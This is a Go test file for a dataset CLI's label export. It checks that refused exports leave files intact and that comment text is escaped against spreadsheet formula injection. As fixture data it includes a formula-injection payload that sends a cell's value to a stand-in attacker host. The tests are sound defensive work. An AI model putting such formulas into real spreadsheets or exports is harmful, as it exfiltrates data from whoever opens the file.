package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/threadset/threadset/schema/labels"
)

// TestExportNeverDestroysAFile: a refused export leaves an annotator's
// filled file and the dataset exactly as they were; an existing file is
// replaced only with --force, and never inside a dataset.
func TestExportNeverDestroysAFile(t *testing.T) {
	work := t.TempDir()
	ds := filepath.Join(work, "ds")
	mustRun(t, "build", "--quiet", "--out", ds)
	filled := filepath.Join(work, "filled.csv")
	const precious = "item_id,stance\ncmt_1,favor\n"
	require.NoError(t, os.WriteFile(filled, []byte(precious), 0o644))
	lsTasks := filepath.Join(work, "ls.json")
	lsConfig := filepath.Join(work, "ls.xml")
	require.NoError(t, os.WriteFile(lsConfig, []byte("<View>my edited config</View>"), 0o644))

	cases := []struct {
		name string
		args []string
		want string
	}{
		{"unknown format", []string{"--format", "ods", "--out", filled}, `unknown format "ods", must be one of [csv xlsx jsonl labelstudio doccano]`},
		{"unknown table", []string{"--table", "nosuch", "--out", filled}, `unknown table "nosuch"`},
		{"unknown column", []string{"--format", "doccano", "--column", "nosuch", "--out", filled}, `comments has no label column "nosuch"`},
		{"column without doccano", []string{"--column", "stance", "--out", filled}, "doccano export only"},
		{"existing file", []string{"--out", filled}, "filled.csv already exists; pass --force to replace it"},
		{"a part of the dataset", []string{"--force", "--out", filepath.Join(ds, "comments", "part-00000.parquet")}, "is inside the threadset dataset"},
		{"the manifest", []string{"--force", "--out", filepath.Join(ds, "manifest.json")}, "is inside the threadset dataset"},
		{"a new file in the dataset", []string{"--out", filepath.Join(ds, "tasks.csv")}, "is inside the threadset dataset"},
		{"the dataset directory", []string{"--force", "--out", ds}, "is a threadset dataset"},
		{"a directory", []string{"--force", "--out", work}, "is a directory"},
		{"no such directory", []string{"--out", filepath.Join(work, "nosuch", "tasks.csv")}, "nosuch does not exist"},
		{"existing Label Studio config", []string{"--format", "labelstudio", "--out", lsTasks}, "ls.xml already exists; pass --force"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			before, beforeWork := snapshot(t, ds), snapshot(t, work)
			code, _, stderr := runCLI(append([]string{"labels", "export", ds}, tc.args...)...)
			assert.Equal(t, exitUsage, code, stderr)
			assert.Contains(t, stderr, tc.want)
			assert.Equal(t, before, snapshot(t, ds), "a refused export changed the dataset")
			assert.Equal(t, beforeWork, snapshot(t, work), "a refused export changed a file")
			data, err := os.ReadFile(filled)
			require.NoError(t, err)
			assert.Equal(t, precious, string(data))
		})
	}
	_, err := os.Stat(lsTasks)
	assert.True(t, os.IsNotExist(err), "the tasks of a refused Label Studio export were written")

	// A failure after the options were checked (here: a dataset whose
	// table cannot be read) leaves the old file too.
	broken := filepath.Join(work, "broken")
	mustRun(t, "build", "--quiet", "--out", broken)
	require.NoError(t, os.WriteFile(filepath.Join(broken, "comments", "part-00000.parquet"), []byte("not parquet"), 0o644))
	code, _, stderr := runCLI("labels", "export", broken, "--force", "--out", filled)
	assert.NotEqual(t, exitOK, code, stderr)
	data, err := os.ReadFile(filled)
	require.NoError(t, err)
	assert.Equal(t, precious, string(data))
	assertNoLeftovers(t, work)

	// --force replaces the file whole.
	mustRun(t, "labels", "export", ds, "--force", "--out", filled)
	_, rows := readTasks(t, filled)
	assert.NotEmpty(t, rows)
	mustRun(t, "labels", "export", ds, "--format", "labelstudio", "--force", "--out", lsTasks)
	config, err := os.ReadFile(lsConfig)
	require.NoError(t, err)
	assert.Contains(t, string(config), "<Choices")
	assertNoLeftovers(t, work)
}

// formulaPage is a page whose comments a spreadsheet would run as formulas.
const formulaPage = `Hostile Comments

The body of the page.

3 Comments
  1. Mallory says

    =HYPERLINK("http://evil.example/?x="&A1,"Click")

  2. Trent says

    -1 for this article

  3. Peggy says

    '=quoted already

Leave a Reply
`

// TestExportNeutralisesFormulas: comment text that a spreadsheet would run
// as a formula gets a ' in front in the CSV (OWASP), and import takes it
// off, so text and labels round-trip exactly, including text that starts
// with a quote.
func TestExportNeutralisesFormulas(t *testing.T) {
	for _, s := range []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+1 to that", "-- a signature", "@admin look",
		"\tindented", "\rcarriage", "'quoted from a book'", "'=already quoted", "''+two quotes", "'", "plain", "",
	} {
		e := labels.EscapeCell(s)
		assert.Equal(t, s, labels.UnescapeCell(e), "round trip of %q", s)
		assert.False(t, startsFormula(e), "%q is written as %q, which a spreadsheet runs", s, e)
		if startsFormula(s) {
			assert.Equal(t, "'"+s, e, "OWASP: a ' in front")
		}
	}
	assert.Equal(t, "'quoted from a book'", labels.EscapeCell("'quoted from a book'"), "other cells are written as they are")

	work := t.TempDir()
	in := filepath.Join(work, "in")
	writeFiles(t, in, map[string]string{"page.txt": formulaPage})
	ds := filepath.Join(work, "ds")
	mustRun(t, "build", "--quiet", "--out", ds, in)
	tasks := filepath.Join(work, "tasks.csv")
	mustRun(t, "labels", "export", ds, "--out", tasks)
	f, err := os.Open(tasks)
	require.NoError(t, err)
	recs, err := csv.NewReader(f).ReadAll()
	require.NoError(t, f.Close())
	require.NoError(t, err)
	for _, r := range recs {
		for _, c := range r {
			assert.False(t, startsFormula(c), "cell %q starts a formula", c)
		}
	}
	header, rows := readTasks(t, tasks)
	require.Len(t, rows, 3)
	var texts []string
	for _, r := range rows {
		texts = append(texts, r["text"])
	}
	assert.Equal(t, []string{`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "'-1 for this article", "''=quoted already"}, texts)

	// Labels written by the annotator (free text that starts like a
	// formula, or with a quote) come back as written; the ' that export
	// put in front is taken off.
	rows[0]["stance_target"] = "'=1+1 as the target"
	rows[1]["stance_target"] = "'quoted target"
	rows[2]["stance_target"] = "''=two quotes"
	writeTasks(t, tasks, header, rows)
	mustRun(t, "labels", "import", ds, tasks, "--annotator", "alice")
	assert.Equal(t, "=1+1 as the target", labelOf(t, ds, "comments", rows[0]["item_id"], "stance_target"))
	assert.Equal(t, "'quoted target", labelOf(t, ds, "comments", rows[1]["item_id"], "stance_target"))
	assert.Equal(t, "'=two quotes", labelOf(t, ds, "comments", rows[2]["item_id"], "stance_target"))
}

func startsFormula(s string) bool { return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) }
